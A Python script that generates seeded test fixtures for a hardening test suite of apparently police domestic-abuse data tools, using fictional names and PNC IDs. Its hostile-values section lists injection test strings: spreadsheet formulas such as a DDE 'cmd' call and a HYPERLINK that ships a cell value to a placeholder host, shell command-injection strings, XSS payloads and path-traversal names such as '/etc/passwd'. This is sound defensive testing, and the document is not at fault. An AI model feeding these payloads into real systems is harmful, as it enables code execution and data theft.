#!/usr/bin/env python3
"""Writes the small fixtures of tests/hardening.bats (run from this
folder; the outputs are committed, so the tests never need to run it).

Valid canonical files of each kind (KIND.csv), the same kinds with
planted errors (planted-KIND.csv), and pii.txt: every name, date of
birth and PNC ID in the planted files, in every spelling a program might
echo, which must never appear on stderr.  Everything is seeded, so the
files come out the same every time."""
import csv
import random

R = random.Random(20261127)
ALPHA = "ZABCDEFGHJKLMNPQRTUVWXY"

FORENAMES = ["Xanthippe", "Ottoline", "Perpetua", "Clemency", "Araminta",
             "Euphemia", "Theodosia", "Wilhelmina", "Zenobia", "Hermione"]
SUSPECTS = ["Barnabas", "Ptolemy", "Lysander", "Thaddeus", "Ignatius",
            "Cornelius", "Ambrose", "Evander", "Leopold", "Octavius"]
SURNAMES = ["Brackenbury", "Quarrendon", "Fotheringay", "Wolstenholme",
            "Cholmondeley", "Featherstonhaugh", "Marjoribanks",
            "Drinkwater", "Higginbottom", "Sillitoe"]


def pnc(year, serial):
    return "%04d/%07d%s" % (year, serial, ALPHA[((year % 100) * 10**7 +
                                                    serial) % 23])


def person(i, first):
    """A person: forename, surname, dob, pnc, postcode, sex."""
    y = 1960 + (i * 7) % 40
    dob = "%04d-%02d-%02d" % (y, 1 + (i * 5) % 12, 1 + (i * 11) % 28)
    return (first[i % len(first)], SURNAMES[(i * 3) % len(SURNAMES)], dob,
            pnc(1990 + i % 30, 10000 + i * 37),
            "SW%d %dAB" % (1 + i % 9, i % 10))


def day(i, base=2024):
    return "%04d-%02d-%02d" % (base + i % 2, 1 + i % 12, 1 + (i * 3) % 28)


CODES = [("19C", "Rape of a female aged 16 and over", "rape", "Y", "N"),
         ("8Q", "Stalking", "stalking", "Y", "Y"),
         ("8U", "Controlling or coercive behaviour", "coercive_control",
          "Y", "Y"),
         ("8N", "Assault with injury", "violence_with_injury", "Y", "Y"),
         ("20A", "Sexual assault on a female aged 13 and over",
          "other_sexual", "Y", "N")]
OUTCOMES = [("1", "charge_summons"), ("15", "evidential_victim_supports"),
            ("16", "evidential_victim_declines"), ("", "pending"),
            ("18", "no_suspect")]

CRIME = ("crime_ref reported_date committed_date offence_code offence_desc "
         "offence_group vawg da_flag bcu borough ward postcode lsoa "
         "victim_forename victim_surname victim_dob victim_pnc "
         "victim_postcode victim_sex suspect_forename suspect_surname "
         "suspect_dob suspect_pnc suspect_postcode suspect_sex outcome_code "
         "outcome_date outcome_group victim_id suspect_id").split()
ORDER = ("order_ref order_type respondent_forename respondent_surname "
         "respondent_dob respondent_pnc respondent_postcode "
         "protected_forename protected_surname protected_dob applied_date "
         "decision granted_date expiry_date breach_count bcu borough "
         "respondent_id protected_id").split()
WANTED = ("wanted_ref person_forename person_surname person_dob person_pnc "
          "person_postcode person_sex offence_code offence_desc "
          "offence_group da_flag high_harm forensic_live wanted_date "
          "arrest_date bcu borough ward person_id").split()
MARAC = ("marac_ref referral_date meeting_date victim_forename "
         "victim_surname victim_dob victim_postcode perpetrator_forename "
         "perpetrator_surname perpetrator_dob perpetrator_pnc dash_score "
         "risk_level referral_route referring_agency borough victim_id "
         "perpetrator_id").split()
DISCL = ("dvds_ref route channel received_date decision_date decision "
         "applicant_forename applicant_surname applicant_dob "
         "subject_forename subject_surname subject_dob subject_pnc borough "
         "applicant_id subject_id").split()
ENGAGE = ("engagement_ref date type bcu borough ward postcode concern "
          "action status").split()
POP = "area year population female_16plus".split()

BOROUGHS = ["Northbury", "Southmere"]


def crimes(n):
    for i in range(n):
        v = person(i, FORENAMES)
        s = person(i + 3, SUSPECTS)
        code, desc, grp, vawg, da = CODES[i % len(CODES)]
        oc, og = OUTCOMES[i % len(OUTCOMES)]
        yield ["CR%07d/24" % (1000 + i), day(i), day(i), code, desc, grp,
               vawg, da, "NE", BOROUGHS[i % 2], "Ward %d" % (i % 4),
               "NW1 %dAA" % (i % 10), "E0100%04d" % i,
               v[0], v[1], v[2], v[3], v[4], "F",
               s[0], s[1], s[2], s[3], s[4], "M",
               oc, day(i + 1) if oc else "", og,
               "P%04d" % (i % 13), "P%04d" % (100 + i % 7)]


def orders(n):
    types = ["DVPN", "DVPO", "SPO", "NMO"]
    for i in range(n):
        r = person(i + 3, SUSPECTS)
        p = person(i, FORENAMES)
        yield ["OR%05d" % i, types[i % 4], r[0], r[1], r[2], r[3], r[4],
               p[0], p[1], p[2], day(i), "granted", day(i),
               "" if i % 3 else day(i, 2027), str(i % 3), "NE",
               BOROUGHS[i % 2], "P%04d" % (100 + i % 7), "P%04d" % (i % 13)]


def wanted(n):
    for i in range(n):
        p = person(i + 3, SUSPECTS)
        code, desc, grp, vawg, da = CODES[i % len(CODES)]
        yield ["WA%05d" % i, p[0], p[1], p[2], p[3], p[4], "M", code, desc,
               grp, da, "Y" if i % 2 else "N", "N", day(i),
               "" if i % 3 else day(i + 2), "NE", BOROUGHS[i % 2],
               "Ward %d" % (i % 4), "P%04d" % (100 + i % 7)]


def maracs(n):
    for i in range(n):
        v = person(i, FORENAMES)
        s = person(i + 3, SUSPECTS)
        yield ["MA%05d" % i, day(i), day(i + 1, 2026), v[0], v[1], v[2],
               v[4], s[0], s[1], s[2], s[3], str(10 + i % 15), "high",
               "police", "Police", BOROUGHS[i % 2], "P%04d" % (i % 13),
               "P%04d" % (100 + i % 7)]


def disclosures(n):
    for i in range(n):
        a = person(i, FORENAMES)
        s = person(i + 3, SUSPECTS)
        yield ["DV%05d" % i, "ask" if i % 2 else "know",
               "portal" if i % 3 else "other", day(i), day(i + 1),
               ["disclose", "no_disclose", "withdrawn", "pending"][i % 4],
               a[0], a[1], a[2], s[0], s[1], s[2], s[3], BOROUGHS[i % 2],
               "P%04d" % (i % 13), "P%04d" % (100 + i % 7)]


def engagements(n):
    types = ["walk_and_talk", "streetsafe", "op_gwen", "vigilant"]
    for i in range(n):
        yield ["EN%05d" % i, day(i), types[i % 4], "NE", BOROUGHS[i % 2],
               "Ward %d" % (i % 4), "NW1 %dAA" % (i % 10), "lighting",
               "reported", "open"]


def population():
    for b in BOROUGHS:
        for y in (2024, 2025):
            yield [b, str(y), "250000", "104000"]


def write(name, header, rows):
    with open(name, "w", newline="") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(header)
        for r in rows:
            w.writerow(r)


KINDS = [("crime", CRIME, crimes), ("order", ORDER, orders),
         ("wanted", WANTED, wanted), ("marac", MARAC, maracs),
         ("disclosure", DISCL, disclosures),
         ("engagement", ENGAGE, engagements)]

for kind, header, gen in KINDS:
    write(kind + ".csv", header, gen(40))
write("population.csv", POP, population())

# Planted errors: impossible and non-dates in every date column, bad PNC
# check letters, text after a closing quote, a ragged row, text in number columns.
# Every row keeps personal values, so a message that echoed a field
# would show one of them.
pii = set()
for kind, header, gen in KINDS:
    rows = [list(r) for r in gen(12)]
    for k, r in enumerate(rows):
        for j, col in enumerate(header):
            if col.endswith(("_forename", "_surname", "_dob", "_pnc")):
                pii.add(r[j])
            if k % 4 == 1 and col.endswith("_dob"):
                r[j] = "31/02/%s" % r[j][:4]
                pii.add(r[j])
            elif k % 4 == 1 and col.endswith("_date"):
                r[j] = "yesterday"
            elif k % 4 == 2 and col.endswith("_pnc"):
                r[j] = r[j][:-1] + ("A" if r[j][-1] != "A" else "B")
                pii.add(r[j])
            elif k % 4 == 3 and col in ("dash_score", "breach_count",
                                         "outcome_code", "offence_code"):
                r[j] = "lots"
    lines = [",".join(header)] + [",".join(r) for r in rows]
    # Text after a closing quote in a name, and a short (ragged) row.
    name_col = next(j for j, c in enumerate(header)
                    if c.endswith("_surname")) if kind != "engagement" else 7
    bad = list(rows[0])
    bad[name_col] = '"O"Quarrendon'
    pii.add('"O"Quarrendon')
    lines.append(",".join(bad))
    lines.append(",".join(rows[1][:5]))
    with open("planted-" + kind + ".csv", "w") as f:
        f.write("\n".join(lines) + "\n")

# Dates as a program might reprint them.
for v in list(pii):
    if len(v) == 10 and v[4] == "-" and v[7] == "-":
        pii.add("%s/%s/%s" % (v[8:], v[5:7], v[:4]))
pii |= set(FORENAMES) | set(SUSPECTS) | set(SURNAMES)
with open("pii.txt", "w") as f:
    for v in sorted(pii):
        f.write(v + "\n")

# Hostile values.  Each is a string a program might be tempted to
# evaluate, interpret or trust: spreadsheet formulas, shell syntax,
# markup, path names, numbers beyond any integer type, dates at the ends
# of the calendar.
FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"open")',
            "+SUM(1,2)", "-2+3", "@SUM(A1:A2)", "=cmd|' /C calc'!A0",
            "=1+1", "+44 20 7946 0000", "-", "@"]
SHELL = ["$(touch pwned)", "`touch pwned`", "; touch pwned;",
         "| touch pwned", "&& touch pwned", "$HOME ${PATH} %s %n %x"]
HTML = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>',
        "Ann & Bob 'quoted' \"twice\"", "</td></tr></table><h1>x</h1>",
        "<!-- comment -->", "&lt;already escaped&gt;"]
PATHS = ["../../../../tmp/vawg-escape", ".hidden", "..", ".", "a/b/c",
         "-rf", "/etc/passwd", "index", "CON", "x" * 300, " ", "\\..\\x"]
HUGE = ["99999999999999999999999999999999", "18446744073709551617",
        "-9223372036854775809", "1e400", "-1", "NaN", "inf", "0x7fffffff"]
YEARS = ["0000-01-01", "9999-12-31", "0000-00-00", "0001-01-01",
         "10000-01-01", "1799-12-31", "2200-01-01"]

hostile = FORMULAS + SHELL + HTML + PATHS


def hostile_rows(header, gen, n):
    rows = [list(r) for r in gen(n)]
    for k, r in enumerate(rows):
        for j, col in enumerate(header):
            if col.endswith(("_forename", "_surname", "_desc", "ward",
                             "concern")):
                r[j] = hostile[(k + j) % len(hostile)]
            elif col.endswith(("_ref",)) and kind == "marac":
                r[j] = PATHS[k % len(PATHS)]
            elif col.endswith(("_date", "_dob")) and k % 5 == 4:
                r[j] = YEARS[k % len(YEARS)]
            elif col in ("dash_score", "breach_count", "outcome_code",
                         "population", "female_16plus") and k % 3 == 2:
                r[j] = HUGE[k % len(HUGE)]
    return rows


for kind, header, gen in KINDS:
    write("hostile-" + kind + ".csv", header,
          hostile_rows(header, gen, max(len(hostile), len(PATHS) * 2)))
with open("hostile-population.csv", "w", newline="") as f:
    w = csv.writer(f, lineterminator="\n")
    w.writerow(POP)
    for i, b in enumerate(BOROUGHS):
        w.writerow([b, "2024", HUGE[i], HUGE[i + 2]])
        w.writerow([b, "2025", "0", "0"])
with open("hostile-values.txt", "w") as f:
    for v in FORMULAS + SHELL + HTML:
        f.write(v + "\n")

# A MARAC case list whose references and names are hostile but whose
# dates and scores are good, so that every case reaches its page.
with open("hostile-cases.csv", "w", newline="") as f:
    w = csv.writer(f, lineterminator="\n")
    w.writerow(MARAC)
    for k, r in enumerate(maracs(len(PATHS) + len(HTML))):
        r[0] = (PATHS + HTML)[k]
        r[3] = HTML[k % len(HTML)]
        r[4] = SHELL[k % len(SHELL)]
        r[7] = FORMULAS[k % len(FORMULAS)]
        w.writerow(r)
